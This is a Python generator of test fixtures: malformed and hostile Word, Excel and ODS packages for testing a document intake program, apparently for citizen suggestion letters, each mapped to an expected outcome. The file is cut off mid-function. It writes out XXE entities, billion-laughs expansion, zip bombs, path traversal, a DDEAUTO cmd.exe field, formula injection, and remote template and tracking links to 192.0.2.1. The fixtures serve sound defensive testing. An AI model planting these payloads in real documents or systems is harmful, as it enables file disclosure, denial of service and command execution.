"""Odd and hostile files, each by its one trait: made here, so that no stranger's bytes lie in the repository.

`FILES` names each file, what must happen to it, and what makes its bytes. It never judges what the program does.
"""

import struct
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

# What a file may come to. `flag`: papers and a warning.
REGISTER, FLAG, REFUSE = "register", "flag", "refuse"

TITLE = "关于缓解老城区停车难的建议"
LINES = [
    "反映人：张三",
    "工作单位及职务：示例区第一中学教师",
    "近期，老城区居民反映夜间停车难，公交站旁也停满了车，消防通道时常被占。",
    "建议由区交通运输局牵头，开放机关单位车位，统一管理，错时共享。",
]


# ---- packages that may lie ------------------------------------------------------------------------------------

class Member:
    """One member of a package; what is set here is written, whether true or not."""

    def __init__(self, name, data=b"", **lies):
        self.name = name if isinstance(name, bytes) else name.encode()
        self.data = data.encode() if isinstance(data, str) else data
        self.lies = lies

    def packed(self):
        if "raw" in self.lies:
            return self.lies["raw"]
        if self.lies.get("method", 8) != 8:
            return self.data
        maker = zlib.compressobj(9, zlib.DEFLATED, -15)
        return maker.compress(self.data) + maker.flush()


def package(members, comment=b"", before=b"", after=b"", count=None):
    """A package of members, each (name, data) or a Member."""
    out = bytearray(before)
    central = bytearray()
    last = 0
    for member in members:
        member = member if isinstance(member, Member) else Member(*member)
        lies = member.lies
        packed = member.packed()
        method = lies.get("method", 8)
        flags = lies.get("flags", 0 if member.name.isascii() else 0x800)
        crc = lies.get("crc", zlib.crc32(member.data))
        size = lies.get("size", len(member.data))
        packed_size = lies.get("packed_size", len(packed))
        if not lies.get("shares_last"):
            last = len(out)
            name = lies.get("local_name", member.name)
            streamed = flags & 8
            sizes = (0, 0, 0) if streamed else (crc, packed_size, size)
            out += struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 0x21, *sizes, len(name), 0)
            out += name + packed
            if streamed:
                out += struct.pack("<4s3I", b"PK\7\x08", crc, packed_size, size)
        central += struct.pack(
            "<4s6H3I5H2I", b"PK\1\2", 0x31E, 20, flags, method, 0, 0x21, crc, packed_size, size, len(member.name),
            0, 0, 0, 0, lies.get("attributes", 0o100644 << 16), last,
        ) + member.name
    start = len(out)
    number = min(len(members) if count is None else count, 0xFFFF)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, number, number, len(central), start, len(comment))
    return bytes(out + central + end + comment + after)


def compound(*streams):
    """A compound file (.doc, .xls, encrypted packages) as far as its directory goes."""
    def entry(name, kind, child=0xFFFFFFFF, right=0xFFFFFFFF):
        text = (name + "\0").encode("utf-16-le")
        return text.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ", len(text), kind, 1, 0xFFFFFFFF, right, child, b"", 0, 0, 0, 0xFFFFFFFE, 0)
    header = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<9I", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0)
    header = header.ljust(512, b"\xFF")
    fat = struct.pack("<2I", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xFF")
    entries = [entry("Root Entry", 5, child=1)]
    for number, name in enumerate(streams, 1):
        entries.append(entry(name, 2, right=number + 1 if number < len(streams) else 0xFFFFFFFF))
    return header + fat + b"".join(entries).ljust(512, b"\0") + bytes(2048)


# ---- Word ------------------------------------------------------------------------------------------------------

def run(text):
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def paragraph(text):
    return f"<w:p>{run(text)}</w:p>"


def letter(title=TITLE, lines=LINES, more=""):
    """The body of a sound paper, and what else is put into it."""
    head = f'<w:p><w:pPr><w:jc w:val="center"/></w:pPr>{run(title)}</w:p>'
    return head + "".join(paragraph(line) for line in lines) + more


def document(body=None, head=XML, attributes="", before=""):
    body = letter() if body is None else body
    return f'{head}{before}<w:document xmlns:w="{W}" xmlns:r="{R}"{attributes}><w:body>{body}</w:body></w:document>'


def content_types(main=f"{WORD_TYPE}.document.main+xml", part="/word/document.xml", more=""):
    return (
        f'{XML}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="{part}" ContentType="{main}"/>{more}</Types>'
    )


def relation(number, kind, target, external=False):
    kind = kind if kind.startswith("http") else f"{R}/{kind}"
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>'


def relations(*items):
    return f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{"".join(items)}</Relationships>'


def root(target="word/document.xml", *more, external=False):
    return relations(relation(1, "officeDocument", target, external), *more)


def docx(main=None, types=None, root_relations=None, parts=(), part_relations=None, **options):
    """A Word package; each argument replaces the sound part."""
    members = [("[Content_Types].xml", types or content_types()), ("_rels/.rels", root_relations or root())]
    main = document() if main is None else main
    members.append(main if isinstance(main, Member) else ("word/document.xml", main))
    if part_relations is not None:
        members.append(("word/_rels/document.xml.rels", part_relations))
    return package([*members, *parts], **options)


def titled(title):
    return docx(document(letter(title)))


def dated(date):
    return docx(document(letter(lines=[*LINES[:2], f"日期：{date}", *LINES[2:]])))


def field(instruction):
    """A complex field with a cached result."""
    return docx(document(letter(more=(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("域的结果")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ))))


def linked(kind, target, body="", part="document"):
    """A relationship that leads out of the package."""
    link = relations(relation(1, kind, target, external=True))
    if part == "document":
        return docx(document(letter(more=body)), part_relations=link)
    types = content_types(more=f'<Override PartName="/word/{part}.xml" ContentType="{WORD_TYPE}.{part}+xml"/>')
    kept = f'{XML}<w:{part} xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:{part}>'
    return docx(types=types, part_relations=relations(relation(1, part, f"{part}.xml")), parts=[
        (f"word/{part}.xml", kept), (f"word/_rels/{part}.xml.rels", link)])


PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0"
    b"\5\0\1\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82"
)


def picture(number=1, link="r:embed"):
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="图"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" '
        f'name="图"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {link}="rId{number}"/></pic:blipFill><pic:spPr/>'
        '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )


def with_picture(image):
    return docx(document(letter(more=picture())), part_relations=relations(relation(1, "image", "media/image1.png")),
                parts=[image])


def encoded(encoding, declared, bom=b""):
    head = f'<?xml version="1.0" encoding="{declared}" standalone="yes"?>'
    return docx(bom + document(head=head).encode(encoding))


def raw(old, new):
    """A sound document with some bytes in the place of others."""
    return docx(document().encode().replace(old, new, 1))


def laughs(name="lol", levels=10):
    entities = f'<!ENTITY {name}0 "哈哈哈哈哈哈哈哈哈哈">'
    for level in range(1, levels):
        entities += f'<!ENTITY {name}{level} "{f"&{name}{level - 1};" * 10}">'
    return entities, f"&{name}{levels - 1};"


def with_dtd(subset, reference, part="document"):
    dtd = f"<!DOCTYPE x [{subset}]>"
    if part == "document":
        return docx(document(letter(more=paragraph(reference)), before=dtd))
    if part == "types":
        return docx(types=content_types().replace("<Types", f"{dtd}<Types"))
    core = (f'{XML}{dtd}<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{reference}</dc:title></cp:coreProperties>')
    return with_core(core)


def with_core(core):
    kind = f"{PACKAGE}/relationships/metadata/core-properties"
    override = ('<Override PartName="/docProps/core.xml" '
                'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>')
    return docx(types=content_types(more=override), parts=[("docProps/core.xml", core)],
                root_relations=root("word/document.xml", relation(2, kind, "docProps/core.xml")))


def nested(element, depth, inside, closed=True):
    opening = f"<w:{element}>" * depth
    return opening + inside + (f"</w:{element}>" * depth if closed else "")


def nested_tables(depth):
    cell = paragraph("格")
    for _ in range(depth):
        cell = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{cell}<w:p/></w:tc></w:tr></w:tbl>"
    return cell


def styled(styles, more=""):
    types = content_types(more=f'<Override PartName="/word/styles.xml" ContentType="{WORD_TYPE}.styles+xml"/>')
    return docx(document(letter(more=more)), types=types, part_relations=relations(relation(1, "styles", "styles.xml")),
                parts=[("word/styles.xml", f'{XML}<w:styles xmlns:w="{W}">{styles}</w:styles>')])


def numbered(numbering, more):
    types = content_types(more=f'<Override PartName="/word/numbering.xml" ContentType="{WORD_TYPE}.numbering+xml"/>')
    return docx(document(letter(more=more)), types=types,
                part_relations=relations(relation(1, "numbering", "numbering.xml")),
                parts=[("word/numbering.xml", f'{XML}<w:numbering xmlns:w="{W}">{numbering}</w:numbering>')])


# ---- Excel -----------------------------------------------------------------------------------------------------

HEADER = ["标题", "反映人", "正文"]
ROW = [TITLE, "张三", LINES[2]]


def column(number):
    name = ""
    while number >= 0:
        number, letter_of = divmod(number, 26)
        name = chr(65 + letter_of) + name
        number -= 1
    return name


def cell(text, reference=None):
    place = f' r="{reference}"' if reference else ""
    return f'<c{place} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def row(number, texts, references=True):
    cells = "".join(cell(text, f"{column(at)}{number}" if references else None) for at, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>' if references else f"<row>{cells}</row>"


def sheet(rows=None, after="", before=""):
    rows = row(1, HEADER) + row(2, ROW) if rows is None else rows
    return f'{XML}<worksheet xmlns="{S}" xmlns:r="{R}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def xlsx(sheets=None, strings=None, styles=None, main=f"{SHEET_TYPE}.sheet.main+xml", parts=(), workbook=None,
         workbook_relations=None, names=None):
    """An Excel package; each argument replaces the sound part."""
    sheets = [sheet()] if sheets is None else sheets
    names = names or [f"表{number}" for number in range(1, len(sheets) + 1)]
    more = "".join(f'<Override PartName="/xl/worksheets/sheet{number}.xml" ContentType="{SHEET_TYPE}.worksheet+xml"/>'
                   for number in range(1, len(sheets) + 1))
    links = [relation(number, "worksheet", f"worksheets/sheet{number}.xml") for number in range(1, len(sheets) + 1)]
    members = [(f"xl/worksheets/sheet{number}.xml", content) for number, content in enumerate(sheets, 1)]
    for name, content in [("sharedStrings", strings), ("styles", styles)]:
        if content is not None:
            more += f'<Override PartName="/xl/{name}.xml" ContentType="{SHEET_TYPE}.{name}+xml"/>'
            links.append(relation(9000 + len(links), name, f"{name}.xml"))
            members.append((f"xl/{name}.xml", content))
    listed = "".join(f'<sheet name="{name}" sheetId="{number}" r:id="rId{number}"/>'
                     for number, name in enumerate(names, 1))
    workbook = workbook or f'{XML}<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{listed}</sheets></workbook>'
    return package([
        ("[Content_Types].xml", content_types(main, "/xl/workbook.xml", more)), ("_rels/.rels", root("xl/workbook.xml")),
        ("xl/workbook.xml", workbook), ("xl/_rels/workbook.xml.rels", workbook_relations or relations(*links)),
        *members, *parts,
    ])


def shared(index, reference):
    return f'<c r="{reference}" t="s"><v>{index}</v></c>'


def shared_rows(first=0):
    return "".join(
        f'<row r="{number}">{"".join(shared(first + 3 * (number - 1) + at, f"{column(at)}{number}") for at in range(3))}</row>'
        for number in (1, 2))


def strings(texts, count=None, before=""):
    count = len(texts) if count is None else count
    items = "".join(f"<si><t>{text}</t></si>" for text in texts)
    return f'{XML}{before}<sst xmlns="{S}" count="{count}" uniqueCount="{count}">{items}</sst>'


def many_sheets(number):
    """Many sheets on one part."""
    listed = "".join(f'<sheet name="{at}" sheetId="{at}" r:id="rId1"/>' for at in range(1, number + 1))
    return xlsx(workbook=f'{XML}<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{listed}</sheets></workbook>')


def ods(rows):
    office = "urn:oasis:names:tc:opendocument:xmlns"
    content = (f'{XML}<office:document-content xmlns:office="{office}:office:1.0" xmlns:table="{office}:table:1.0" '
               f'xmlns:text="{office}:text:1.0" office:version="1.2"><office:body><office:spreadsheet>'
               f'<table:table table:name="表">{rows}</table:table></office:spreadsheet></office:body></office:document-content>')
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (f'{XML}<manifest:manifest xmlns:manifest="{office}:manifest:1.0"><manifest:file-entry '
                f'manifest:full-path="/" manifest:media-type="{kind}"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    return package([Member("mimetype", kind, method=0), ("content.xml", content), ("META-INF/manifest.xml", manifest)])


def ods_row(texts, repeat="", column_repeat=""):
    cells = "".join(f'<table:table-cell office:value-type="string"{column_repeat}><text:p>{text}</text:p></table:table-cell>'
                    for text in texts)
    return f"<table:table-row{repeat}>{cells}</table:table-row>"


# ---- the table -------------------------------------------------------------------------------------------------

FILES = {}


def file(name, *outcomes):
    """Enters what the function below makes under a name, with the outcomes that may be."""
    def enter(make):
        assert name not in FILES, name
        FILES[name] = (set(outcomes), make)
        return make
    return enter


def files(table):
    for name, (outcomes, make) in table.items():
        file(name, *outcomes.split())(make)


def zeros(kind):
    content = docx()
    return content[: len(content) // 2].ljust(len(content), b"\0") if kind == "tail" else bytes(4096)


def overlap(number):
    """Each further entry of the directory names the same bytes."""
    big = Member("word/media/image0.bin", bytes(1 << 20))
    packed = big.packed()
    rest = [Member(f"word/media/image{at}.bin", big.data, shares_last=True, raw=packed, crc=zlib.crc32(big.data))
            for at in range(1, number)]
    return docx(parts=[big, *rest])


def external_main():
    return docx(root_relations=root("https://example.invalid/document.xml", external=True))


def two_mains():
    return docx(root_relations=root("word/document.xml", relation(2, "officeDocument", "word/other.xml")),
                types=content_types(more=f'<Override PartName="/word/other.xml" ContentType="{WORD_TYPE}.document.main+xml"/>'),
                parts=[("word/other.xml", document(letter("关于另一件事的建议")))])


HYPERLINK = '<w:p><w:hyperlink r:id="rId1">' + run("链接") + "</w:hyperlink></w:p>"
FRAMES = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="rId1"/></w:object></w:r></w:p>'
SUB_DOCUMENT = '<w:subDoc r:id="rId1"/>'
ALT_CHUNK = '<w:altChunk r:id="rId1"/>'

# The rows of the agreed table, in its order.
files({
    "ok-minimal.docx": ("register", lambda: docx(part_relations=relations())),
    "ok-minimal.xlsx": ("register", lambda: xlsx()),
    "ok-no-doc-rels.docx": ("register", lambda: docx()),
    "zero.docx": ("refuse", lambda: b""),
    "one-byte.xlsx": ("refuse", lambda: b"P"),
    "truncated-half.docx": ("refuse", lambda: docx()[: len(docx()) // 2]),
    "zeros-4k.docx": ("refuse", lambda: zeros("all")),
    "tail-zeros.docx": ("refuse", lambda: zeros("tail")),
    "html-named.docx": ("refuse", lambda: f"<html><body><p>{TITLE}</p></body></html>".encode()),
    "pdf-named.docx": ("refuse", lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"),
    "doc-renamed.docx": ("refuse", lambda: compound("WordDocument", "1Table")),
    "text-gbk-named.docx": ("refuse", lambda: TITLE.encode("gbk")),
    "docx-named.xlsx": ("refuse register", lambda: docx()),
    "plain-zip.docx": ("refuse", lambda: package([("说明.txt", "这里没有文件")])),
    "empty-zip.docx": ("refuse", lambda: package([])),
    "docm-renamed.docx": ("refuse flag", lambda: docx(types=content_types("application/vnd.ms-word.document.macroEnabled.main+xml"))),
    "vba-in-docx.docx": ("flag refuse", lambda: docx(
        parts=[("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 macro")],
        part_relations=relations(relation(1, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")))),
    "dotx-named.docx": ("register", lambda: docx(types=content_types(f"{WORD_TYPE}.template.main+xml"))),
    "suffix-junk.docx": ("register refuse", lambda: docx(after=b"\r\n-- scanned by gateway --\r\n")),
    "suffix-1mb.docx": ("refuse", lambda: docx(after=bytes(range(256)) * 4096)),
    "comment-fake-eocd.docx": ("refuse", lambda: docx(comment=package([("word/document.xml", document(letter("关于冒名文件的建议")))])[-200:] + b"PK\5\6" + bytes(18))),
    "duplicate-case.docx": ("refuse", lambda: docx(parts=[("WORD/DOCUMENT.XML", document(letter("关于另一份的建议")))])),
    "local-name-differs.docx": ("refuse register", lambda: docx(Member("word/document.xml", document(), local_name=b"word/documenX.xml"))),
    "traversal.docx": ("refuse", lambda: docx(parts=[("../../../../tmp/minyi-traversal.txt", "out")])),
    "backslash-names.docx": ("register refuse", lambda: package([
        ("[Content_Types].xml", content_types()), ("_rels\\.rels", root()), ("word\\document.xml", document())])),
    "crc-bad-document.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), crc=0x12345678))),
    "crc-bad-image.docx": ("flag refuse", lambda: with_picture(Member("word/media/image1.png", PNG, crc=0x12345678))),
    "method-lzma.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), method=14))),
    "size-lie-small.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), size=10))),
    "size-lie-4g.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), size=0xFFFFFFF0))),
    "bomb-10m-paragraphs.docx": ("refuse", lambda: docx(document(letter(more="<w:p/>" * 10_000_000)))),
    "bomb-overlap.docx": ("refuse", lambda: overlap(2000)),
    "bomb-nested.docx": ("register flag", lambda: docx(
        parts=[("word/embeddings/inner.docx", package([("word/document.xml", bytes(20 << 20))]))],
        part_relations=relations(relation(1, "package", "embeddings/inner.docx")))),
    "gbk-member-name.docx": ("register", lambda: docx(parts=[Member("word/图片.txt".encode("gbk"), "x", flags=0)])),
    "long-member-name.docx": ("refuse register", lambda: docx(parts=[("word/" + "长" * 20_000, "x")])),
    "xml-billion-laughs.docx": ("refuse", lambda: with_dtd(*laughs())),
    "xml-xxe-file.docx": ("refuse", lambda: with_dtd('<!ENTITY x SYSTEM "file:///etc/hostname">', "&x;")),
    "xml-xxe-http.docx": ("refuse", lambda: with_dtd('<!ENTITY x SYSTEM "http://127.0.0.1:9/x">', "&x;")),
    "xml-xxe-param.docx": ("refuse", lambda: with_dtd('<!ENTITY % x SYSTEM "file:///etc/hostname"> %x;', "")),
    "xml-xxe-content-types.docx": ("refuse", lambda: with_dtd('<!ENTITY x SYSTEM "file:///etc/hostname">', "", "types")),
    "xml-xxe-core.docx": ("refuse", lambda: with_dtd('<!ENTITY x SYSTEM "file:///etc/hostname">', "&x;", "core")),
    "xml-laughs-sst.xlsx": ("refuse", lambda: xlsx([sheet(shared_rows())], strings(
        [*HEADER, laughs()[1], *ROW[1:]], before=f"<!DOCTYPE x [{laughs()[0]}]>"))),
    "xml-deep-unclosed.docx": ("refuse", lambda: docx(document(letter(more=nested("sdt", 100_000, "", closed=False))))),
    "xml-nested-tables-200.docx": ("register refuse", lambda: docx(document(letter(more=nested_tables(60))))),
    "xml-many-attrs.docx": ("refuse", lambda: docx(document(letter(more="<w:p " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>")))),
    "xml-many-ns.docx": ("refuse register", lambda: docx(document(attributes="".join(f' xmlns:n{n}="urn:{n}"' for n in range(50_000))))),
    "xml-utf16le.docx": ("register", lambda: encoded("utf-16-le", "UTF-16", b"\xFF\xFE")),
    "xml-utf16be.docx": ("register", lambda: encoded("utf-16-be", "UTF-16", b"\xFE\xFF")),
    "xml-gb18030.docx": ("refuse register", lambda: encoded("gb18030", "GB18030")),
    "xml-utf7.docx": ("refuse", lambda: encoded("utf-7", "UTF-7")),
    "xml-bad-utf8.docx": ("refuse", lambda: raw("老城区".encode(), b"\xC3\x28\xFF")),
    "xml-surrogate-utf8.docx": ("refuse", lambda: raw("老城区".encode(), b"\xED\xA0\x80")),
    "xml-nul.docx": ("refuse", lambda: raw("老城区".encode(), b"\0")),
    "xml-ctrl.docx": ("refuse", lambda: raw("老城区".encode(), b"\x01\x0B")),
    "xml-ref-fffe.docx": ("refuse", lambda: raw("老城区".encode(), b"&#xFFFE;")),
    "xml-ref-d800.docx": ("refuse", lambda: raw("老城区".encode(), b"&#xD800;")),
    "xml-ref-big.docx": ("refuse", lambda: raw("老城区".encode(), b"&#x110000;")),
    "xml-mismatch.docx": ("refuse", lambda: raw(b"</w:p>", b"</w:q>")),
    "xml-junk-after-root.docx": ("refuse register", lambda: docx(document() + "<extra/>")),
    "xml-dup-attr.docx": ("refuse", lambda: raw(b'w:val="center"', b'w:val="center" w:val="left"')),
    "xml-other-prefix.docx": ("register", lambda: docx(document().replace("w:", "ns0:").replace("xmlns:w=", "xmlns:ns0="))),
    "xml-default-ns.docx": ("register", lambda: docx(document(letter().replace(' w:val="center"', "")).replace("<w:", "<").replace("</w:", "</").replace("xmlns:w=", "xmlns="))),
    "xml-cdata.docx": ("register", lambda: docx(document(letter(f"<![CDATA[{TITLE}]]>")))),
    "opc-main-elsewhere.docx": ("register", lambda: package([
        ("[Content_Types].xml", content_types(part="/word/document2.xml")), ("_rels/.rels", root("word/document2.xml")),
        ("word/document2.xml", document())])),
    "opc-absolute-target.docx": ("register", lambda: docx(root_relations=root("/word/document.xml"))),
    "opc-no-rels.docx": ("refuse", lambda: package([("[Content_Types].xml", content_types()), ("word/document.xml", document())])),
    "opc-no-content-types.docx": ("refuse", lambda: package([("_rels/.rels", root()), ("word/document.xml", document())])),
    "opc-external-main.docx": ("refuse", external_main),
    "opc-two-mains.docx": ("refuse", two_mains),
    "opc-rels-cycle.docx": ("register flag", lambda: docx(
        document(letter(more=ALT_CHUNK)), part_relations=relations(relation(1, "aFChunk", "document.xml")))),
    "opc-core-broken.docx": ("flag refuse", lambda: with_core("<cp:coreProperties><dc:title>")),
    "title-bidi.docx": ("flag register", lambda: titled("关于\u202E议建的\u202C停车建议")),
    "title-tags.docx": ("flag register", lambda: titled("关于停车的建议" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"))),
    "title-emoji.docx": ("register", lambda: titled("关于缓解停车难的建议🚗👨‍👩‍👧")),
    "title-nfd.docx": ("register", lambda: titled("关于Cafe\u0301经营停车的建议")),
    "title-html.docx": ("register", lambda: titled("关于&lt;script&gt;alert(1)&lt;/script&gt;的建议")),
    "title-newline.docx": ("register", lambda: titled("关于缓解停车难&#10;的建议")),
    "title-formula.docx": ("register", lambda: titled("=HYPERLINK(&quot;http://x&quot;,&quot;关于停车的建议&quot;)")),
    "title-long.docx": ("flag register", lambda: titled("关于" + "长" * 200_000 + "的建议")),
    "date-zero.docx": ("flag register", lambda: dated("0000年0月0日")),
    "date-year10000.docx": ("flag register", lambda: dated("10000年1月1日")),
    "date-neg.docx": ("flag register", lambda: dated("-2026年-3月-9日")),
    "date-leap.docx": ("flag register", lambda: dated("2025年2月29日")),
    "ext-attached-template.docx": ("flag refuse", lambda: linked("attachedTemplate", "\\\\192.0.2.1\\share\\evil.dotm", part="settings")),
    "ext-ole-link.docx": ("flag refuse", lambda: linked("oleObject", "file:///\\\\192.0.2.1\\x.xlsx", FRAMES)),
    "ext-image-link.docx": ("flag refuse", lambda: linked("image", "http://192.0.2.1/track.png", picture(link="r:link"))),
    "ext-frame.docx": ("flag refuse", lambda: linked("frame", "http://192.0.2.1/frame.html")),
    "ext-hyperlink-js.docx": ("flag register", lambda: linked("hyperlink", "javascript:alert(1)", HYPERLINK)),
    "ext-hyperlink-mhtml.docx": ("flag register", lambda: linked("hyperlink", "mhtml:http://192.0.2.1/x!y", HYPERLINK)),
    "field-ddeauto.docx": ("flag register", lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "field-includepicture.docx": ("flag register", lambda: field('INCLUDEPICTURE "http://192.0.2.1/x.png" \\\\d')),
    "field-quote.docx": ("flag register", lambda: field("QUOTE 65 66 67")),
    "field-link.docx": ("flag register", lambda: field('LINK Excel.Sheet.12 "\\\\\\\\192.0.2.1\\\\x.xlsx"')),
    "altchunk-html.docx": ("flag register", lambda: docx(
        document(letter(more=ALT_CHUNK)), part_relations=relations(relation(1, "aFChunk", "chunk.html")),
        types=content_types(more='<Override PartName="/word/chunk.html" ContentType="text/html"/>'),
        parts=[("word/chunk.html", "<p>藏在附块里的正文</p>")])),
    "xl-two-cells-dense.xlsx": ("register refuse", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + f'<row r="1048576">{cell("角落", "XFD1048576")}</row>')])),
    "xl-ref-bad.xlsx": ("refuse register", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + f'<row r="3">{cell("坏", "ZZZZ99999999")}</row>')])),
    "xl-no-refs.xlsx": ("register", lambda: xlsx([sheet(row(1, HEADER, False) + row(2, ROW, False))])),
    "xl-sst-lie.xlsx": ("register", lambda: xlsx([sheet(shared_rows())], strings([*HEADER, *ROW], count=4_294_967_295))),
    "xl-sst-oob.xlsx": ("refuse register", lambda: xlsx([sheet(shared_rows(900))], strings([*HEADER, *ROW]))),
    "xl-formula-strings.xlsx": ("register", lambda: xlsx([sheet(row(1, HEADER) + row(2, [
        "=cmd|'/c calc'!A1关于停车的建议", "张三", "+1+1@SUM(A1)" + LINES[2]]))])),
    "xl-formula-real.xlsx": ("register flag", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) +
        '<row r="3"><c r="D3"><f>WEBSERVICE("http://192.0.2.1/")</f><v>1</v></c></row>')])),
    "xl-external-link.xlsx": ("flag register", lambda: xlsx(parts=[
        ("xl/externalLinks/externalLink1.xml", f'{XML}<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')],
        workbook_relations=relations(relation(1, "worksheet", "worksheets/sheet1.xml"),
                                     relation(2, "externalLink", "externalLinks/externalLink1.xml")))),
    "xl-many-sheets.xlsx": ("refuse", lambda: many_sheets(20_000)),
    "xl-200k-rows.xlsx": ("register", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + "".join(
        f'<row r="{n}"><c r="F{n}"><v>{n}</v></c></row>' for n in range(3, 200_003)))])),
    "xl-merge-many.xlsx": ("register refuse", lambda: xlsx([sheet(after="<mergeCells>" + "".join(
        f'<mergeCell ref="E{n}:XFD{n}"/>' for n in range(3, 60_003)) + "</mergeCells>")])),
    "xl-xlsb-renamed.xlsx": ("refuse", lambda: xlsx(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
    "xl-xlsm-renamed.xlsx": ("refuse flag", lambda: xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
})
AGREED = len(FILES)

MIB = 1 << 20


def zip64(true):
    """Counts and places in the 64-bit records, as large archives have them; honest, or leading far outside."""
    content = docx()
    at = content.rindex(b"PK\5\6")
    number, size, start = struct.unpack("<H2I", content[at + 10 : at + 20])
    start64 = start if true else 1 << 62
    record = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, number, number, size, start64)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at if true else 1 << 63, 1)
    return content[:at] + record + locator + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def text_boxes(depth):
    inner = paragraph("框")
    for _ in range(depth):
        inner = f"<w:p><w:r><w:pict><w:txbxContent>{inner}</w:txbxContent></w:pict></w:r></w:p>"
    return inner


def alternates(depth):
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    inner = run("里")
    for _ in range(depth):
        inner = f'<mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="x">{inner}</mc:Choice><mc:Fallback>{run("外")}</mc:Fallback></mc:AlternateContent>'
    return f"<w:p>{inner}</w:p>"


def bomb(name, mib, **lies):
    """A member of zeros, packed a thousandfold."""
    maker = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(maker.compress(bytes(MIB)) for _ in range(mib)) + maker.flush()
    return Member(name, raw=packed, crc=0, **{"size": mib * MIB, **lies})


def headers_heavy():
    """Hundreds of headers of a megabyte of text each, all different."""
    numbers = range(2, 402)
    header = lambda n: f'{XML}<w:hdr xmlns:w="{W}"><w:p>{run(f"页眉{n}" * 100_000)}</w:p></w:hdr>'
    override = "".join(f'<Override PartName="/word/header{n}.xml" ContentType="{WORD_TYPE}.header+xml"/>' for n in numbers)
    return docx(types=content_types(more=override),
